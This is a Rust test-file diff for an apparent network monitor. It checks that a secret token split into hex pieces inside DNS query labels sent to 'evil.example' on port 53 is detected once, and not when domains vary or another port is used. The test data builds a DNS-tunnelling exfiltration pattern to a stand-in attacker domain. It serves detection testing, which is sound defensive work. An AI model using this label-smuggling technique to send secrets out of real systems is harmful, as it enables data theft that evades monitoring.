@@ -115,18 +115,19 @@ fn base32(bytes: &[u8]) -> String {
         .collect()
 }
 
+fn question(labels: &[&str]) -> Vec<u8> {
+    let mut bytes = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in labels {
+        bytes.push(label.len() as u8);
+        bytes.extend_from_slice(label.as_bytes());
+    }
+    bytes.extend_from_slice(&[0, 0, 1, 0, 1]);
+    bytes
+}
+
 #[test]
 fn a_secret_in_the_labels_of_a_name() {
     let hex: String = TOKEN.iter().map(|b| format!("{b:02x}")).collect();
-    let question = |labels: &[&str]| {
-        let mut bytes = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
-        for label in labels {
-            bytes.push(label.len() as u8);
-            bytes.extend_from_slice(label.as_bytes());
-        }
-        bytes.extend_from_slice(&[0, 0, 1, 0, 1]);
-        bytes
-    };
     let (a, b) = hex.split_at(50);
     let split = question(&[a, b, "x", "example", "org"]);
     let seen = seen(vec![message(abi::Kind::UDP_SEND, DATAGRAM, &split)]);
@@ -154,6 +155,39 @@ fn a_secret_in_the_labels_of_a_name() {
         hits(vec![message(abi::Kind::UDP_SEND, DATAGRAM, &benign)]),
         0
     );
+}
+
+/// In hexadecimal digits, a piece for each question, each asked for twice; and the questions after it.
+#[test]
+fn a_secret_asked_for_in_pieces_is_found_once() {
+    let hex: String = TOKEN.iter().map(|b| format!("{b:02x}")).collect();
+    let pieces: Vec<&str> = (0..hex.len())
+        .step_by(20)
+        .map(|at| &hex[at..hex.len().min(at + 20)])
+        .collect();
+    let asked = |port: u16, domain: fn(usize) -> &'static str| -> Vec<usize> {
+        let questions: Vec<Vec<u8>> = (0..pieces.len() + 3)
+            .flat_map(|n| {
+                let piece = pieces.get(n).copied().unwrap_or("monitoring");
+                let one = question(&["7", piece, domain(n), "example"]);
+                [one.clone(), one]
+            })
+            .collect();
+        let messages = questions.iter().map(|text| {
+            let mut message = message(abi::Kind::UDP_SEND, DATAGRAM, text);
+            message.0.ends.peer_port = port;
+            message
+        });
+        let seen = seen(messages.collect());
+        seen.iter().map(|send| send.payload.hits.len()).collect()
+    };
+    let found = asked(53, |_| "evil");
+    assert_eq!(found.iter().sum::<usize>(), 1);
+    assert_eq!(found[2 * (pieces.len() - 1)], 1, "by the last piece");
+    // Under many domains, or asked of no name service.
+    let each = |n: usize| ["a", "b"][n % 2];
+    assert_eq!(asked(53, each).iter().sum::<usize>(), 0);
+    assert_eq!(asked(8_125, |_| "evil").iter().sum::<usize>(), 0);
 }
 
 #[test]
